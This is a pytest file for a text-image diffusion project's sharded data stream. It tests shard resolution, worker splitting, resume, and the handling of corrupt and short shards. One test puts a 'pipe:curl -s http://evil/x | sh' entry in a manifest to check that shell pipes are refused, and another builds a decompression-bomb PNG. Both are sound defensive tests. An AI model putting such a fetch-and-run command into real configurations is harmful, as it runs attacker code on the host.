"""Specification of textdiff/data/stream.py: URL forms, node/worker split, exact resume, corrupt samples."""

import io
import json
import logging
from collections import Counter
from itertools import islice
from pathlib import Path

import numpy as np
import pytest
import torch
import webdataset as wds
from PIL import Image

from textdiff.config import AugmentConfig, DataConfig
from textdiff.data.shard_urls import ShardsError, resolve_data_shards, resolve_shards
from textdiff.data.stream import block_safeboxes, build_train_stream, epoch_shards, group_samples, shard_groups

N_SHARDS, PER_SHARD = 8, 6  # 48 samples


def png_bytes(rng, size=20):
    buf = io.BytesIO()
    Image.fromarray(rng.integers(0, 256, (size, size + 4, 3), dtype=np.uint8)).save(buf, format="PNG")
    return buf.getvalue()


def write_sample(writer, key, rng, txt="word", captions=("a red sign",), safebox=(2, 4, 14, 12), unreadable=None):
    meta = {"captions": list(captions), "safebox": list(safebox) if safebox else None, "px_scale": [1.0, 1.0],
            "width": 24, "height": 20, "source": f"{key}.png"}
    if unreadable is not None:
        meta["unreadable"] = [list(b) for b in unreadable]
    writer.write({"__key__": key, "png": png_bytes(rng), "txt": txt.encode("utf-8"),
                  "json": json.dumps(meta).encode("utf-8")})


@pytest.fixture(scope="module")
def shard_dir(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("shards")
    rng = np.random.default_rng(0)
    entries = []
    for s in range(N_SHARDS):
        path = out / f"shard-{s:06d}.tar"
        with wds.TarWriter(str(path)) as writer:
            for i in range(PER_SHARD):
                text_free = i % 3 == 0
                write_sample(writer, f"s{s}_{i}", rng, txt="" if text_free else f"w{s}{i}",
                             captions=() if i == 1 else ("a caption", "another"),
                             safebox=None if text_free else (2, 4, 14, 12))
        entries.append({"path": path.name, "count": PER_SHARD})
    (out / "manifest.json").write_text(json.dumps({"shards": entries}))
    return out


def data_cfg(shard_dir, **kw):
    kw.setdefault("shards", str(shard_dir / "shard-{000000..000007}.tar"))
    kw.setdefault("num_workers", 0)
    kw.setdefault("shuffle_buffer", 5)
    kw.setdefault("resampled", False)
    return DataConfig(**kw)


def test_shards_resolve_from_braces_globs_comma_lists_and_manifest(shard_dir):
    braces = resolve_shards(str(shard_dir / "shard-{000000..000007}.tar"))
    glob_ = resolve_shards(str(shard_dir / "shard-*.tar"))
    commas = resolve_shards(f"{shard_dir}/shard-{{000000..000003}}.tar,{shard_dir}/shard-00000[4-7].tar")
    manifest = resolve_shards(str(shard_dir / "manifest.json"))
    assert len(braces.urls) == 8
    assert braces.urls == glob_.urls == commas.urls == manifest.urls
    assert manifest.counts == (6,) * 8
    assert braces.counts == (6,) * 8  # read from the manifest.json beside the shards


def test_missing_shard_and_empty_spec_name_the_key_and_the_fix(shard_dir):
    with pytest.raises(ValueError, match=r"data.shards: shard .*shard-000008.tar does not exist.*make_shards"):
        resolve_shards(str(shard_dir / "shard-{000007..000009}.tar"))
    with pytest.raises(ValueError, match="data.shards is empty"):
        resolve_shards("")


def test_remote_urls_pass_through_unchanged():
    listed = resolve_shards("pipe:aws s3 cp s3://b/shard-{0..1}.tar -::https://x.org/a.tar", allow_pipe=True)
    assert listed.urls == ("pipe:aws s3 cp s3://b/shard-0.tar -", "pipe:aws s3 cp s3://b/shard-1.tar -",
                           "https://x.org/a.tar")


def test_each_of_four_readers_gets_two_distinct_shards_per_epoch():
    for epoch in range(3):
        taken = [i for slot in range(4) for i in epoch_shards(8, 0, epoch, slot, 4, resampled=False)]
        assert sorted(taken) == list(range(8))
    assert epoch_shards(8, 0, 0, 0, 4, False) != epoch_shards(8, 0, 1, 0, 4, False) or \
        epoch_shards(8, 0, 0, 1, 4, False) != epoch_shards(8, 0, 1, 1, 4, False)


def test_resampled_readers_draw_ceil_n_over_readers_shards_with_replacement():
    draws = [epoch_shards(10, 0, 0, slot, 4, resampled=True) for slot in range(4)]
    assert [len(d) for d in draws] == [3, 3, 3, 3]
    assert all(0 <= i < 10 for d in draws for i in d)


def test_two_ranks_by_two_workers_cover_every_sample_exactly_once_per_epoch(shard_dir):
    keys = []
    for rank in range(2):
        # 2 shards x 6 samples = 12 per reader = 3 batches of 4; 2 readers -> 6 batches per rank and epoch
        stream = build_train_stream(data_cfg(shard_dir, num_workers=2), AugmentConfig(), 16, 0, 4, rank, 2)
        for batch in islice(stream, 6):
            keys += batch["key"]
    counts = Counter(keys)
    assert len(counts) == 48
    assert set(counts.values()) == {1}


def test_block_shuffle_permutes_within_blocks_and_reenters_at_any_index(shard_dir):
    shards = resolve_shards(str(shard_dir / "manifest.json"))
    counters = {"shard_errors": 0}
    full = [(i, s["__key__"]) for i, s, _ in group_samples(shards, [0, 1], 3, 0, 0, 0, 5, 0, counters)]
    assert [i for i, _ in full] == list(range(12))
    assert sorted(k for _, k in full) == sorted(f"s{s}_{i}" for s in (0, 1) for i in range(6))
    assert [k for _, k in full] != [f"s{s}_{i}" for s in (0, 1) for i in range(6)]  # shuffled
    for start in (1, 5, 7, 11):
        tail = [(i, s["__key__"]) for i, s, _ in group_samples(shards, [0, 1], 3, 0, 0, 0, 5, start, counters)]
        assert tail == full[start:]
    assert counters["shard_errors"] == 0


def assert_same_batches(a, b):
    assert a.keys() == b.keys()
    for name in a:
        if isinstance(a[name], torch.Tensor):
            assert torch.equal(a[name], b[name]), name
        else:
            assert a[name] == b[name], name


@pytest.mark.parametrize("num_workers", [0, 2])
def test_resume_from_state_dict_continues_with_exactly_the_next_batches(shard_dir, num_workers):
    cfg = data_cfg(shard_dir, num_workers=num_workers, resampled=True)
    aug = AugmentConfig(crop_prob=0.5, flip_lr_prob_es=0.5)
    # 13 batches of 5 = 65 samples: past the end of the first epoch (48 or 2 x 24 samples)
    whole = list(islice(build_train_stream(cfg, aug, 16, 8, 5, 0, 1), 13))
    first = build_train_stream(cfg, aug, 16, 8, 5, 0, 1)
    head = list(islice(first, 7))  # odd: with 2 workers the resumed loader must start with worker 1
    state = json.loads(json.dumps(first.state_dict()))
    resumed = list(islice(build_train_stream(cfg, aug, 16, 8, 5, 0, 1, state=state), 6))
    assert len(head + resumed) == 13
    for got, want in zip(head + resumed, whole):
        assert_same_batches(got, want)


def test_state_from_other_settings_or_shards_is_refused_naming_what_changed(shard_dir):
    stream = build_train_stream(data_cfg(shard_dir), AugmentConfig(), 16, 0, 4, 0, 1)
    next(iter(stream))
    state = stream.state_dict()
    with pytest.raises(ValueError, match="num_workers=0.*num_workers=2"):
        build_train_stream(data_cfg(shard_dir, num_workers=2), AugmentConfig(), 16, 0, 4, 0, 1, state=state)
    fewer = data_cfg(shard_dir, shards=str(shard_dir / "shard-{000000..000006}.tar"))
    with pytest.raises(ValueError, match="num_shards=8.*num_shards=7"):
        build_train_stream(fewer, AugmentConfig(), 16, 0, 4, 0, 1, state=state)
    renamed = {**state, "num_shards": 8}
    with pytest.raises(ValueError, match="another list of shard names.*data.shards names other shards"):
        build_train_stream(data_cfg(shard_dir, shards=str(shard_dir / "shard-00000[1-7].tar") + ","
                                    + str(shard_dir / "shard-000000.tar")), AugmentConfig(), 16, 0, 4, 0, 1,
                           state=renamed)


def test_batches_follow_the_architecture_layout_and_keep_text_free_as_empty_string(shard_dir):
    stream = build_train_stream(data_cfg(shard_dir, shuffle_buffer=0, open_shards=1), AugmentConfig(), 16, 8, 6, 0, 1)
    batch = next(iter(stream))  # one shard in tar order: its samples 0 (text-free) and 1 (no captions)
    assert set(batch) == {"image", "low_res", "txt", "capt", "key"}
    assert batch["image"].shape == (6, 3, 16, 16) and batch["low_res"].shape == (6, 3, 8, 8)
    assert -1.0 <= batch["image"].min().item() and batch["image"].max().item() <= 1.0
    by_key = dict(zip(batch["key"], zip(batch["txt"], batch["capt"])))
    shard = batch["key"][0].split("_")[0]
    assert by_key[f"{shard}_0"][0] == ""  # text-free stays "", never None (null is the model's dropout)
    assert by_key[f"{shard}_1"][1] == ""  # no captions -> ""
    assert by_key[f"{shard}_2"][1] in ("a caption", "another")
    assert None not in batch["txt"]


def test_corrupt_samples_are_skipped_with_a_warning_and_counted(tmp_path, caplog):
    rng = np.random.default_rng(1)
    path = tmp_path / "shard-000000.tar"
    with wds.TarWriter(str(path)) as writer:
        for i in range(4):
            write_sample(writer, f"good{i}", rng)
        writer.write({"__key__": "badpng", "png": b"not a png", "txt": b"x", "json": b"{}"})
        writer.write({"__key__": "badtxt", "png": png_bytes(rng), "txt": b"\xff\xfe", "json": b"{}"})
        writer.write({"__key__": "nojson", "png": png_bytes(rng), "txt": b"x"})
        writer.write({"__key__": "badbox", "png": png_bytes(rng), "txt": b"x",
                      "json": json.dumps({"safebox": [20, 5, 2, 9]}).encode()})
        writer.write({"__key__": "truncated", "png": png_bytes(rng)[:-60], "txt": b"x", "json": b"{}"})
    cfg = DataConfig(shards=str(path), num_workers=0, shuffle_buffer=0, resampled=False)
    stream = build_train_stream(cfg, AugmentConfig(), 16, 0, 4, 0, 1)
    with caplog.at_level(logging.WARNING, logger="textdiff.data.stream"):
        batches = list(islice(stream, 2))  # 2 epochs of 9 samples, 4 good each
    assert [sorted(b["key"]) for b in batches] == [[f"good{i}" for i in range(4)]] * 2
    # the 5 bad samples of epoch 0 lie between the two batches; those of epoch 1 are not reached yet
    assert stream.counters()["skipped_corrupt"] == 5
    assert stream.counters()["batches"] == 2 and stream.counters()["samples"] == 8
    next(iter(stream))
    assert stream.counters()["skipped_corrupt"] == 10
    messages = "\n".join(r.getMessage() for r in caplog.records)
    for key, reason in (("badpng", "does not decode"), ("badtxt", "not UTF-8"), ("nojson", "missing .json"),
                        ("badbox", "inverted"), ("truncated", "image does not decode")):
        assert f"skipping corrupt sample {key}" in messages and reason in messages


def test_too_few_shards_for_the_readers_is_refused_with_the_fix(shard_dir):
    cfg = data_cfg(shard_dir, shards=str(shard_dir / "shard-00000{0..2}.tar"), num_workers=2)
    with pytest.raises(ValueError, match="3 shards but world_size x data.num_workers = 4.*resampled=true"):
        build_train_stream(cfg, AugmentConfig(), 16, 0, 4, 0, 2)


def test_same_seed_same_stream_other_seed_other_order(shard_dir):
    first = [b["key"] for b in islice(build_train_stream(data_cfg(shard_dir), AugmentConfig(), 16, 0, 4, 0, 1), 3)]
    again = [b["key"] for b in islice(build_train_stream(data_cfg(shard_dir), AugmentConfig(), 16, 0, 4, 0, 1), 3)]
    other = [b["key"] for b in islice(build_train_stream(data_cfg(shard_dir, seed=1), AugmentConfig(), 16, 0, 4,
                                                         0, 1), 3)]
    assert first == again
    assert first != other


def test_a_sample_without_txt_is_unknown_text_none_not_a_corrupt_sample(tmp_path):
    rng = np.random.default_rng(2)
    path = tmp_path / "shard-000000.tar"
    with wds.TarWriter(str(path)) as writer:
        write_sample(writer, "known", rng, txt="")
        meta = {"captions": [], "safebox": None, "px_scale": [2.0, 2.0]}
        writer.write({"__key__": "unknown", "png": png_bytes(rng), "json": json.dumps(meta).encode()})
    cfg = DataConfig(shards=str(path), num_workers=0, shuffle_buffer=0, resampled=False)
    stream = build_train_stream(cfg, AugmentConfig(), 16, 0, 2, 0, 1)
    batch = next(iter(stream))
    assert dict(zip(batch["key"], batch["txt"])) == {"known": "", "unknown": None}
    assert stream.counters()["skipped_corrupt"] == 0


def test_streams_the_shared_synthetic_shards_with_counts_from_their_manifest(synthetic_shards):
    listed = resolve_shards(str(synthetic_shards / "manifest.json"))
    assert listed.counts == (16, 16, 16)
    cfg = DataConfig(shards=str(synthetic_shards / "manifest.json"), num_workers=0, resampled=False)
    batch = next(iter(build_train_stream(cfg, AugmentConfig(crop_prob=1.0), 32, 16, 8, 0, 1)))
    assert batch["image"].shape == (8, 3, 32, 32) and batch["low_res"].shape == (8, 3, 16, 16)
    assert all(isinstance(t, str) for t in batch["txt"]) and len(set(batch["key"])) == 8


def test_pipe_urls_stream_through_a_shell_command(shard_dir):
    spec = f"pipe:cat {shard_dir}/shard-000000.tar,pipe:cat {shard_dir}/shard-000001.tar"
    stream = build_train_stream(data_cfg(shard_dir, shards=spec, shuffle_buffer=0, allow_pipe=True), AugmentConfig(),
                                16, 0, 12, 0, 1)
    assert sorted(next(iter(stream))["key"]) == sorted(f"s{s}_{i}" for s in (0, 1) for i in range(6))


# --- untrusted URLs and images ---------------------------------------------------------------------------


def test_pipe_urls_are_refused_unless_allow_pipe_from_the_spec_and_from_a_manifest(shard_dir, tmp_path):
    with pytest.raises(ShardsError, match=r"'pipe:cat x.tar' .*runs a shell command; set data.allow_pipe=true"):
        resolve_shards("pipe:cat x.tar")
    manifest = tmp_path / "manifest.json"
    manifest.write_text(json.dumps({"shards": [{"path": "pipe:curl -s http://evil/x | sh", "count": 3}]}))
    with pytest.raises(ShardsError, match="data.allow_pipe"):
        resolve_data_shards(DataConfig(shards=str(manifest)))
    with pytest.raises(ShardsError, match="data.allow_pipe"):  # before any reader or model is built
        build_train_stream(DataConfig(shards=str(manifest)), AugmentConfig(), 16, 0, 4, 0, 1)
    assert resolve_data_shards(DataConfig(shards=str(manifest), allow_pipe=True)).counts == (3,)
    # local paths and fsspec URLs need no permission (gs:// needs gcsfs installed: tests/data/test_remote.py)
    assert resolve_shards("s3://b/x-{0..1}.tar::https://c/y.tar::memory://z.tar").urls == (
        "s3://b/x-0.tar", "s3://b/x-1.tar", "https://c/y.tar", "memory://z.tar")
    assert len(resolve_shards(str(shard_dir / "shard-00000{0..1}.tar")).urls) == 2


def test_resolve_data_shards_names_data_shards_for_a_missing_path_or_an_empty_pattern(tmp_path):
    for spec in (str(tmp_path / "none-{000000..000001}.tar"), str(tmp_path / "*.tar"), ""):
        with pytest.raises(ShardsError, match="data.shards"):
            resolve_data_shards(DataConfig(shards=spec))
    assert issubclass(ShardsError, ValueError)


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` x ``height`` (a decompression bomb: no real pixel data)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0" * 10)) + chunk(b"IEND", b""))


def test_images_above_max_pixels_are_corrupt_samples_like_at_sharding(tmp_path, caplog):
    rng = np.random.default_rng(3)
    path = tmp_path / "shard-000000.tar"
    with wds.TarWriter(str(path)) as writer:
        for i in range(3):
            write_sample(writer, f"good{i}", rng)
        meta = json.dumps({"captions": [""], "safebox": [0, 0, 9000, 8000], "px_scale": [1, 1]}).encode()
        writer.write({"__key__": "bomb", "png": png_claiming(9000, 8000), "txt": b"x", "json": meta})
    cfg = DataConfig(shards=str(path), num_workers=0, shuffle_buffer=0, resampled=False)
    with caplog.at_level(logging.WARNING, logger="textdiff.data.stream"):
        stream = build_train_stream(cfg, AugmentConfig(), 16, 0, 3, 0, 1)
        batch = next(iter(stream))
        next(iter(stream))
    assert sorted(batch["key"]) == ["good0", "good1", "good2"]
    assert stream.counters()["skipped_corrupt"] == 1  # 72e6 pixels > the 64e6 default, as make_shards refuses
    assert "9000x8000 = 72000000 pixels, above data.max_pixels 64000000" in caplog.text
    small = build_train_stream(DataConfig(shards=str(path), num_workers=0, shuffle_buffer=0, resampled=False,
                                          max_pixels=24 * 20 - 1), AugmentConfig(), 16, 0, 3, 0, 1)
    with pytest.raises(RuntimeError, match=r"found no usable samples in epoch 0 \(4 read, all corrupt"):
        next(iter(small))


def test_an_undecodable_image_is_named_by_its_member_not_a_memory_address(tmp_path, caplog):
    path = tmp_path / "shard-000000.tar"
    rng = np.random.default_rng(4)
    with wds.TarWriter(str(path)) as writer:
        write_sample(writer, "good", rng)
        writer.write({"__key__": "junk", "png": b"GIF89a but not really", "txt": b"x", "json": b"{}"})
    cfg = DataConfig(shards=str(path), num_workers=0, shuffle_buffer=0, resampled=False)
    with caplog.at_level(logging.WARNING, logger="textdiff.data.stream"):
        next(iter(build_train_stream(cfg, AugmentConfig(), 16, 0, 2, 0, 1)))
    assert "cannot identify image file junk.png" in caplog.text and "BytesIO" not in caplog.text


# --- several shards per reader ---------------------------------------------------------------------------


def test_shard_groups_cut_a_readers_epoch_into_runs_of_open_shards():
    assert shard_groups([5, 2, 7, 0, 3], 2) == [[5, 2], [7, 0], [3]]
    assert shard_groups([5, 2, 7], 4) == [[5, 2, 7]] and shard_groups([5, 2], 1) == [[5], [2]]


def test_a_group_interleaves_its_shards_and_still_reads_each_sample_once(shard_dir):
    shards = resolve_shards(str(shard_dir / "manifest.json"))
    counters = {"shard_errors": 0}
    keys = [s["__key__"] for _, s, _ in group_samples(shards, [0, 1, 2, 3], 0, 0, 0, 0, 1, 0, counters)]
    assert sorted(keys) == sorted(f"s{s}_{i}" for s in range(4) for i in range(6))
    # no block shuffle (block 1): the mix alone draws from all 4 shards in the first 8 samples
    assert len({k.split("_")[0] for k in keys[:8]}) == 4
    for s in range(4):  # each shard's own samples stay in tar order
        assert [k for k in keys if k.startswith(f"s{s}_")] == [f"s{s}_{i}" for i in range(6)]


@pytest.mark.parametrize("open_shards", [1, 3, 8])
def test_one_reader_reads_every_sample_once_per_epoch_for_any_open_shards(shard_dir, open_shards):
    stream = build_train_stream(data_cfg(shard_dir, open_shards=open_shards), AugmentConfig(), 16, 0, 4, 0, 1)
    keys = [k for b in islice(stream, 12) for k in b["key"]]  # 12 x 4 = the 48 samples of epoch 0
    assert Counter(keys) == Counter(f"s{s}_{i}" for s in range(N_SHARDS) for i in range(PER_SHARD))


def binomial_band(n: int, p: float = 0.5, mass: float = 0.999) -> tuple[int, int]:
    """The central interval [lo, hi] of Binomial(n, p) holding at least ``mass`` (each tail <= (1-mass)/2)."""
    from math import comb
    pmf = [comb(n, k) * p ** k * (1 - p) ** (n - k) for k in range(n + 1)]
    tail = (1 - mass) / 2
    lo = max(k for k in range(n + 1) if sum(pmf[:k]) <= tail)
    hi = min(k for k in range(n + 1) if sum(pmf[k + 1:]) <= tail)
    return lo, hi


def source_a_counts(out: Path, **data) -> list[int]:
    cfg = DataConfig(shards=str(out / "manifest.json"), num_workers=0, resampled=False, shuffle_buffer=16, **data)
    stream = build_train_stream(cfg, AugmentConfig(), 8, 0, 32, 0, 1)
    return [sum(k.startswith("a_source/") for k in b["key"]) for b in islice(stream, 25)]  # 2 epochs of 400


@pytest.fixture(scope="module")
def two_sources(tmp_path_factory) -> Path:
    """A folder laid out by source: a_source/ and b_source/, 200 tiny images each (sorted: all a, then b)."""
    src = tmp_path_factory.mktemp("two_sources")
    rng = np.random.default_rng(5)
    for source in ("a_source", "b_source"):
        (src / source).mkdir()
        for i in range(200):
            Image.fromarray(rng.integers(0, 256, (8, 8, 3), dtype=np.uint8)).save(src / source / f"{i:03d}.png")
            (src / source / f"{i:03d}.txt").write_text(f"{source[0]}{i}")
    return src


def test_batches_from_a_folder_laid_out_by_source_are_random_samples_of_both(two_sources, tmp_path):
    """Share of a_source/ in 25 batches of 32 (2 epochs; the stream's defaults but a block of 16, far below
    the 400 samples): each within the 99.9% band of Binomial(32, 0.5), [7, 25]. Drawn without replacement
    within an epoch, a random batch's count is hypergeometric, narrower still. With the old order (sorted
    shards, one shard per reader at a time) the same check fails: every batch is all a or all b (see the
    next test)."""
    from textdiff.data.shards import make_source_shards
    make_source_shards(two_sources, tmp_path / "out", maxcount=50, workers=0, progress=False)  # default order
    lo, hi = binomial_band(32)
    assert (lo, hi) == (7, 25)
    counts = source_a_counts(tmp_path / "out")
    assert all(lo <= c <= hi for c in counts), counts
    assert abs(sum(counts) / (32 * 25) - 0.5) < 3.3 * 0.5 / (32 * 25) ** 0.5  # overall share, 99.9% two-sided


def test_the_old_order_fails_the_source_share_check(two_sources, tmp_path):
    from textdiff.data.shards import make_source_shards
    make_source_shards(two_sources, tmp_path / "sorted", maxcount=50, workers=0, progress=False, order="sorted")
    lo, hi = binomial_band(32)
    counts = source_a_counts(tmp_path / "sorted", open_shards=1)
    assert sum(not lo <= c <= hi for c in counts) >= 20, counts  # nearly every batch is a single source


# --- short and broken shards -----------------------------------------------------------------------------


def member_offsets(path: Path) -> dict[str, tuple[int, int]]:
    """{member name: (offset of its 512-byte header, offset of the end of its padded data)}."""
    import tarfile
    with tarfile.open(path) as tar:
        return {m.name: (m.offset, m.offset_data + -(-m.size // 512) * 512) for m in tar.getmembers()}


def broken_copy(src: Path, dst: Path, how: str) -> None:
    """``src`` cut or garbled around sample 3 of 6 (members KEY.json, KEY.png, KEY.txt in that order)."""
    data = bytearray(src.read_bytes())
    offsets = member_offsets(src)
    if how == "cut_between_members":  # at the block boundary after s0_3.png: s0_3 would lose only its .txt
        data = data[:offsets["s0_3.png"][1]]
    elif how == "cut_inside_a_member":  # at a block boundary inside s0_3.png's data
        header, end = offsets["s0_3.png"]
        data = data[:header + 512 + 512 * ((end - header - 512) // 1024)]
    elif how == "garbled_header":  # the header of s0_3.txt overwritten: tar reads it as the end
        header = offsets["s0_3.txt"][0]
        data[header:header + 512] = bytes(range(256)) * 2
    dst.write_bytes(bytes(data))


@pytest.mark.parametrize("how", ["cut_between_members", "cut_inside_a_member", "garbled_header"])
def test_a_short_shard_is_counted_once_warned_by_name_and_never_delivers_a_partial_sample(shard_dir, tmp_path,
                                                                                         how, caplog):
    broken_copy(shard_dir / "shard-000000.tar", tmp_path / "shard-000000.tar", how)
    (tmp_path / "manifest.json").write_text(json.dumps({"shards": [{"path": "shard-000000.tar", "count": 6}]}))
    cfg = DataConfig(shards=str(tmp_path / "manifest.json"), num_workers=0, shuffle_buffer=0, resampled=False)
    stream = build_train_stream(cfg, AugmentConfig(), 16, 0, 1, 0, 1)
    with caplog.at_level(logging.WARNING, logger="textdiff.data.stream"):
        batches = list(islice(stream, 3))  # the 3 complete samples s0_0..s0_2 of epoch 0
        assert stream.counters()["shard_errors"] == 0  # found when the reader tries a 4th sample
        batches += list(islice(stream, 3))  # epoch 1
    keys = [b["key"][0] for b in batches]
    assert keys == ["s0_0", "s0_1", "s0_2"] * 2 and None not in [b["txt"][0] for b in batches]
    assert stream.counters()["shard_errors"] == 1  # epoch 0's shortfall, once (epoch 1's is not reached yet)
    assert stream.counters()["skipped_corrupt"] == 0
    shard = str(tmp_path / "shard-000000.tar")
    warnings = [r.getMessage() for r in caplog.records if "is short" in r.getMessage()]
    assert len(warnings) == 1 and f"shard {shard} is short" in warnings[0]
    # s0_3 is read with its .json (and .png) only, and dropped: the last sample before a break may lack members
    assert "4 samples read of the 6 its manifest lists, the last one dropped" in warnings[0]


def short_shard_dir(shard_dir: Path, tmp_path: Path) -> Path:
    """The 8 shards of ``shard_dir`` with shard 3 cut inside sample 3: its manifest still says 6."""
    out = tmp_path / "short"
    out.mkdir()
    for s in range(N_SHARDS):
        name = f"shard-{s:06d}.tar"
        if s == 3:
            data = (shard_dir / name).read_bytes()
            (out / name).write_bytes(data[:member_offsets(shard_dir / name)["s3_3.png"][1]])
        else:
            (out / name).write_bytes((shard_dir / name).read_bytes())
    (out / "manifest.json").write_text((shard_dir / "manifest.json").read_text())
    return out


@pytest.mark.parametrize("num_workers,open_shards", [(0, 1), (0, 4), (2, 2)])
def test_resume_after_a_short_shard_gives_bit_identical_batches_and_counters(shard_dir, tmp_path, num_workers,
                                                                            open_shards):
    """45 samples a epoch (shard 3 holds 3 complete of its 6), batches of 4: 24 batches cross two epoch
    boundaries. The stream before this fix (one shard at a time, position skipping whole shards by the
    manifest's 6) diverged in this set-up with 0 workers at cuts 7-11 and 14-23 (every batch after the cut
    differed); now every cut gives the straight run's batches and counters."""
    out = short_shard_dir(shard_dir, tmp_path)
    cfg = DataConfig(shards=str(out / "manifest.json"), num_workers=num_workers, resampled=False, shuffle_buffer=5,
                     open_shards=open_shards)
    aug = AugmentConfig(crop_prob=0.5, flip_lr_prob_es=0.5)
    straight = build_train_stream(cfg, aug, 16, 0, 4, 0, 1)
    whole = list(islice(straight, 24))
    for cut in (5, 9, 12, 17, 21):
        first = build_train_stream(cfg, aug, 16, 0, 4, 0, 1)
        head = list(islice(first, cut))
        state = json.loads(json.dumps(first.state_dict()))
        resumed = build_train_stream(cfg, aug, 16, 0, 4, 0, 1, state=state)
        tail = list(islice(resumed, 24 - cut))
        for got, want in zip(head + tail, whole):
            assert_same_batches(got, want)
        assert resumed.counters() == straight.counters()
    assert straight.counters()["shard_errors"] == 2  # shard 3, once in each of the 2 epochs it was read in
    keys = [k for b in whole for k in b["key"]]
    assert "s3_3" not in keys and all(keys.count(f"s3_{i}") == 2 for i in range(3))


def test_a_short_shard_still_leaves_every_other_sample_read_once_per_epoch(shard_dir, tmp_path):
    out = short_shard_dir(shard_dir, tmp_path)
    cfg = DataConfig(shards=str(out / "manifest.json"), num_workers=0, resampled=False, shuffle_buffer=5)
    keys = [k for b in islice(build_train_stream(cfg, AugmentConfig(), 16, 0, 5, 0, 1), 9) for k in b["key"]]
    want = {f"s{s}_{i}" for s in range(N_SHARDS) for i in range(PER_SHARD)} - {"s3_3", "s3_4", "s3_5"}
    assert Counter(keys) == Counter(want)  # 45 = 9 batches of 5: epoch 0 exactly


def test_new_data_keys_are_validated_by_name_and_the_pixel_cap_matches_the_sharder():
    from textdiff.config import ConfigError
    from textdiff.data.sources import DEFAULT_MAX_PIXELS
    with pytest.raises(ConfigError, match="data.open_shards"):
        DataConfig(open_shards=0).validate()
    with pytest.raises(ConfigError, match="data.max_pixels"):
        DataConfig(max_pixels=0).validate()
    assert DataConfig().max_pixels == DEFAULT_MAX_PIXELS == 64_000_000
    assert DataConfig().allow_pipe is False and DataConfig().open_shards == 4


def test_block_safeboxes_are_the_boxes_of_the_blocks_text_images():
    raws = [{"txt": b"ab", "json": b'{"safebox": [1, 2, 3, 4]}'}, {"txt": b"", "json": b'{"safebox": [5, 5, 6, 6]}'},
            {"json": b'{"safebox": [0, 0, 9, 9]}'}, {"txt": b"cd", "json": b'{"safebox": null}'},
            {"txt": b"ef", "json": b"not json"}]
    assert block_safeboxes(raws) == ((1.0, 2.0, 3.0, 4.0), (0.0, 0.0, 9.0, 9.0))  # text-free and broken passed over


def test_text_free_samples_borrow_from_their_blocks_safeboxes_only_when_asked(shard_dir):
    shards = resolve_shards(str(shard_dir / "shard-{000000..000001}.tar"))
    counters = {"shard_errors": 0}
    pools = [pool for _, _, pool in group_samples(shards, [0, 1], 0, 0, 0, 0, 6, 0, counters, borrow=True)]
    # blocks of 6 of the fixture's samples; two of each three hold text with safebox (2, 4, 14, 12)
    assert {len(p) for p in pools} == {4} and set(pools[0]) == {(2.0, 4.0, 14.0, 12.0)}
    assert all(pool == () for _, _, pool in group_samples(shards, [0, 1], 0, 0, 0, 0, 6, 0, counters))


# --- loss masks of unreadable text (data.mask_unreadable) ---------------------------------------------------------

UNREADABLE_BOX = (4, 6, 8, 10)


def masked_shard_dir(out: Path, with_boxes: bool) -> Path:
    """4 shards x 6 samples (24 x 20 px) as :func:`shard_dir`'s; samples 1 and 5 of each hold an unreadable box
    :data:`UNREADABLE_BOX` in their .json when ``with_boxes`` (else the same shards without the field), and
    text-free sample 3 one at its top left."""
    out.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(5)
    for s in range(4):
        with wds.TarWriter(str(out / f"shard-{s:06d}.tar")) as writer:
            for i in range(PER_SHARD):
                boxes = [UNREADABLE_BOX] if i in (1, 5) else [(0, 0, 3, 3)] if i == 3 else None
                write_sample(writer, f"s{s}_{i}", rng, txt="" if i % 3 == 0 else f"w{s}{i}",
                             safebox=None if i % 3 == 0 else (2, 4, 14, 12), unreadable=boxes if with_boxes else None)
    return out


@pytest.fixture(scope="module")
def masked_shards(tmp_path_factory) -> tuple[Path, Path]:
    """(shards with unreadable boxes, the same shards without them)."""
    root = tmp_path_factory.mktemp("masked")
    return masked_shard_dir(root / "with", True), masked_shard_dir(root / "without", False)


def masked_stream(shards: Path, mask: bool, aug: AugmentConfig, image_size=16, low_res=8, state=None):
    cfg = DataConfig(shards=str(shards / "shard-{000000..000003}.tar"), num_workers=0, shuffle_buffer=5,
                     resampled=False, mask_unreadable=mask)
    return build_train_stream(cfg, aug, image_size, low_res, 6, 0, 1, state=state)


def test_batches_carry_a_loss_mask_only_with_mask_unreadable_and_are_otherwise_bit_identical(masked_shards):
    with_boxes, without = masked_shards
    aug = AugmentConfig(crop_prob=0.5, flip_lr_prob_es=0.5, blur_prob=0.5)
    research = list(islice(masked_stream(without, False, aug), 4))
    ignored = list(islice(masked_stream(with_boxes, False, aug), 4))
    masked = list(islice(masked_stream(with_boxes, True, aug), 4))
    for plain, off, on in zip(research, ignored, masked):
        assert set(off) == {"image", "low_res", "txt", "capt", "key"}  # the boxes are read only with the option
        assert_same_batches(off, plain)
        assert on["loss_mask"].shape == (6, 1, 16, 16) and on["loss_mask"].dtype == torch.float32
        assert_same_batches({k: v for k, v in on.items() if k != "loss_mask"}, plain)


def test_the_loss_mask_leaves_out_exactly_the_pixels_of_each_samples_boxes(masked_shards):
    # no crop: a text image's largest square holding its safebox is (2, 0, 22, 20), kept at 20 px; the box
    # (4, 6, 8, 10) is then rows 6-9 and columns 2-5 of the output, 16 pixels
    batches = list(islice(masked_stream(masked_shards[0], True, AugmentConfig(), image_size=20, low_res=0), 4))
    text_box = torch.ones(1, 20, 20)
    text_box[:, 6:10, 2:6] = 0
    corner = torch.ones(1, 20, 20)  # text-free sample 3: its square is (2, 0, 22, 20) too, (0, 0, 3, 3) -> 1 x 3 px
    corner[:, 0:3, 0:1] = 0
    seen = 0
    for batch in batches:
        for key, mask in zip(batch["key"], batch["loss_mask"]):
            i = int(key.split("_")[1])
            want = text_box if i in (1, 5) else corner if i == 3 else torch.ones(1, 20, 20)
            assert torch.equal(mask, want), key
            seen += 1
    assert seen == 24  # every sample of the epoch once: 8 with the text box, 4 with the corner, 12 all ones


@pytest.mark.parametrize("num_workers", [0, 2])
